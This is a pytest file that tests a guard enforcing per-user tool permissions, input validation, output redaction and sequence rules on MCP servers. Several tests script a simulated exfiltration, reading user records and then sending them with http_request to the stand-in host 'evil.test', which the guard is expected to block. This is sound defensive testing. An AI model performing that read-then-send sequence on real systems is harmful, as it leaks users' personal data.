"""d2.agents.mcp against the real MCP SDK: an in-process client talks to the server
over the SDK's in-memory transport (``Client(server, mode="legacy")``: the
initialize handshake, JSON-RPC framing, one session) or its direct per-request
path (``mode="2026-07-28"``). The access token reaches the server the way the
SDK's bearer-auth middleware puts it there: in ``auth_context_var``."""

from __future__ import annotations

import json
from collections.abc import Hashable
from typing import Any

import pytest
from d2.agents.mcp import MCPGuard, guard_server
from d2.core import ConfigurationError, get_user_context, set_user
from mcp import Client, types
from mcp.server.auth.middleware.auth_context import auth_context_var, get_access_token
from mcp.server.auth.middleware.bearer_auth import AuthenticatedUser
from mcp.server.auth.provider import AccessToken
from mcp.server.context import ServerRequestContext
from mcp.server.lowlevel import Server
from mcp.server.mcpserver import MCPServer

ANALYST_TOOLS = ["http_request", "read_users", "web_search"]


def act_as(subject: str | None, *roles: str, session: str | None = None) -> None:
    """Authenticate the next requests as ``subject`` (``None``: no token)."""
    if subject is None:
        auth_context_var.set(None)
        return
    claims = {"roles": list(roles), "sid": session}
    token = AccessToken(
        token=f"token-{subject}", client_id="agent", scopes=[], subject=subject, claims=claims
    )
    auth_context_var.set(AuthenticatedUser(token))


def identify(token: AccessToken | None) -> tuple[str, list[str]] | None:
    """The mapping an app writes: subject is the user, the roles claim its roles."""
    if token is None or token.subject is None:
        return None
    return token.subject, (token.claims or {}).get("roles", [])


def text(result: types.CallToolResult) -> str:
    return " ".join(c.text for c in result.content if isinstance(c, types.TextContent))


def build_server(users: list[dict[str, str]]) -> MCPServer:
    server = MCPServer("crm")

    @server.tool()
    def web_search(query: str) -> str:
        """Search the web."""
        return f"results for {query!r} (as {get_user_context().user_id})"

    @server.tool()
    def read_users(limit: int = 10) -> list[dict[str, str]]:
        """Read user records."""
        return users[:limit]

    @server.tool()
    async def http_request(url: str, body: str = "") -> str:
        """Send an HTTP request."""
        return f"POST {url} ({len(body)} bytes)"

    return server


@pytest.fixture
def server(configure: Any, tool_ids: dict[str, str], users: list[dict[str, str]]) -> MCPServer:
    configure()
    server = build_server(users)
    guard_server(server, identify=identify, tool_ids=tool_ids)
    return server


async def listed(client: Client) -> list[str]:
    return sorted(t.name for t in (await client.list_tools()).tools)


async def test_tools_list_shows_each_user_exactly_the_tools_they_may_call(
    server: MCPServer,
) -> None:
    async with Client(server, mode="legacy") as client:
        act_as("alice", "analyst")
        assert await listed(client) == ANALYST_TOOLS
        act_as("victor", "viewer")
        assert await listed(client) == ["web_search"]
        act_as("nobody")  # authenticated, no role
        assert await listed(client) == []
        act_as(None)  # unauthenticated: no user
        assert await listed(client) == []


async def test_a_forbidden_call_is_an_mcp_tool_error_and_the_session_goes_on(
    server: MCPServer,
) -> None:
    async with Client(server, mode="legacy") as client:
        act_as("victor", "viewer")
        refused = await client.call_tool("read_users", {"limit": 1})
        assert refused.is_error
        assert "Permission denied" in text(refused) and "not_granted" in text(refused)
        assert "ada@example.com" not in text(refused)
        # the session is intact: the next call works
        ok = await client.call_tool("web_search", {"query": "pricing"})
        assert not ok.is_error and "as victor" in text(ok)
        act_as(None)
        anonymous = await client.call_tool("web_search", {"query": "x"})
        assert anonymous.is_error and "no_user" in text(anonymous)


async def test_input_and_output_rules_bind_to_the_tool_function(server: MCPServer) -> None:
    async with Client(server, mode="legacy") as client:
        act_as("alice", "analyst")
        too_many = await client.call_tool("read_users", {"limit": 500})
        assert too_many.is_error
        assert "input_validation" in text(too_many) and "'limit'" in text(too_many)
        ok = await client.call_tool("read_users", {"limit": 2})
        assert not ok.is_error
        assert ok.structured_content == {
            "result": [
                {"name": "Ada", "email": "[REDACTED]"},
                {"name": "Grace", "email": "[REDACTED]"},
            ]
        }
        assert "example.com" not in text(ok)


async def test_a_sequence_rule_stops_exfiltration_across_the_calls_of_a_session(
    server: MCPServer,
) -> None:
    async with Client(server, mode="legacy") as client:
        act_as("alice", "analyst")
        assert not (
            await client.call_tool("http_request", {"url": "https://partner.test"})
        ).is_error
        assert not (await client.call_tool("read_users", {"limit": 1})).is_error
        exfil = await client.call_tool("http_request", {"url": "https://evil.test", "body": "u"})
        assert exfil.is_error
        assert "sequence_violation" in text(exfil) and "exfiltration" in text(exfil)
        assert not (await client.call_tool("web_search", {"query": "weather"})).is_error
        # another user on the same connection starts a scope of their own
        act_as("bob", "analyst")
        assert not (await client.call_tool("http_request", {"url": "https://x.test"})).is_error
    async with Client(server, mode="legacy") as client:  # a new session, a new history
        act_as("alice", "analyst")
        assert not (await client.call_tool("http_request", {"url": "https://x.test"})).is_error


async def test_the_user_is_set_from_each_request_and_cleared_after_it(
    server: MCPServer,
) -> None:
    # A D2 user set on the client side travels with the in-memory messages; the
    # guard must replace it with the request's own user, never inherit it.
    set_user("mallory", roles=["analyst"])
    async with Client(server, mode="legacy") as client:
        act_as(None)
        assert await listed(client) == []
        refused = await client.call_tool("web_search", {"query": "x"})
        assert refused.is_error and "no_user" in text(refused)
        act_as("alice", "analyst")
        assert "as alice" in text(await client.call_tool("web_search", {"query": "x"}))
        act_as("victor", "viewer")
        assert "as victor" in text(await client.call_tool("web_search", {"query": "x"}))
    assert get_user_context().user_id == "mallory"  # the caller's own context is untouched


async def test_tools_registered_after_guard_server_are_guarded_on_first_call(
    server: MCPServer,
) -> None:
    @server.tool()
    def drop_tables() -> str:
        """Not in the policy."""
        return "dropped"

    async with Client(server, mode="legacy") as client:
        act_as("alice", "analyst")
        assert "drop_tables" not in await listed(client)
        refused = await client.call_tool("drop_tables", {})
        assert refused.is_error and "unknown_tool" in text(refused)


async def test_a_session_key_carries_the_history_across_stateless_requests(
    configure: Any, tool_ids: dict[str, str], users: list[dict[str, str]]
) -> None:
    configure()
    server = build_server(users)

    def by_token_session(ctx: ServerRequestContext[Any, Any]) -> Hashable | None:
        token = get_access_token()
        return None if token is None else (token.subject, (token.claims or {}).get("sid"))

    guard_server(server, identify=identify, tool_ids=tool_ids, session_key=by_token_session)
    async with Client(server, mode="2026-07-28") as client:  # every request is a connection
        act_as("alice", "analyst", session="s1")
        assert await listed(client) == ANALYST_TOOLS
        assert not (await client.call_tool("read_users", {"limit": 1})).is_error
        exfil = await client.call_tool("http_request", {"url": "https://evil.test"})
        assert exfil.is_error and "sequence_violation" in text(exfil)
        act_as("alice", "analyst", session="s2")  # another session of the same user
        assert not (await client.call_tool("http_request", {"url": "https://x.test"})).is_error


def lowlevel_server(users: list[dict[str, str]]) -> Server[Any]:
    """A low-level server: its handlers list and dispatch the tools themselves."""
    schema = {"type": "object", "properties": {"limit": {"type": "integer"}}}
    listing = [
        types.Tool(name="web.search", input_schema={"type": "object"}),
        types.Tool(name="db.read_users", input_schema=schema),
        types.Tool(name="http.request", input_schema={"type": "object"}),
    ]

    async def on_list_tools(
        ctx: ServerRequestContext[Any, Any], params: types.PaginatedRequestParams | None
    ) -> types.ListToolsResult:
        return types.ListToolsResult(tools=listing)

    async def on_call_tool(
        ctx: ServerRequestContext[Any, Any], params: types.CallToolRequestParams
    ) -> types.CallToolResult:
        arguments = params.arguments or {}
        if params.name == "db.read_users":
            found = users[: arguments.get("limit", 10)]
            return types.CallToolResult(
                content=[types.TextContent(type="text", text=json.dumps(found))],
                structured_content={"users": found},
            )
        return types.CallToolResult(content=[types.TextContent(type="text", text="ok")])

    return Server("lowlevel", on_list_tools=on_list_tools, on_call_tool=on_call_tool)


async def test_a_low_level_server_is_guarded_through_its_handlers(
    configure: Any, users: list[dict[str, str]]
) -> None:
    configure()
    server = lowlevel_server(users)
    guard_server(server, identify=identify)  # tool names are the policy's ids
    async with Client(server, mode="legacy") as client:
        act_as("victor", "viewer")
        assert await listed(client) == ["web.search"]
        refused = await client.call_tool("db.read_users", {"limit": 1})
        assert refused.is_error and "not_granted" in text(refused)
        act_as("alice", "analyst")
        assert await listed(client) == ["db.read_users", "http.request", "web.search"]
        too_many = await client.call_tool("db.read_users", {"limit": 500})
        assert too_many.is_error and "input_validation" in text(too_many)
        read = await client.call_tool("db.read_users", {"limit": 1})
        assert not read.is_error
        exfil = await client.call_tool("http.request", {"url": "https://evil.test"})
        assert exfil.is_error and "sequence_violation" in text(exfil)


def test_guarding_twice_or_guarding_something_else_is_a_configuration_error(
    server: MCPServer,
) -> None:
    with pytest.raises(ConfigurationError, match="already guarded"):
        guard_server(server, identify=identify)
    with pytest.raises(ConfigurationError, match="MCPServer or a Server"):
        guard_server(object(), identify=identify)  # type: ignore[arg-type]
    with pytest.raises(ConfigurationError, match="identify"):
        MCPGuard(identify="alice")  # type: ignore[arg-type]
    assert sum(isinstance(m, MCPGuard) for m in server.middleware) == 1


def test_a_low_level_server_without_a_call_handler_is_refused() -> None:
    with pytest.raises(ConfigurationError, match="tools/call"):
        guard_server(Server("empty"), identify=identify)
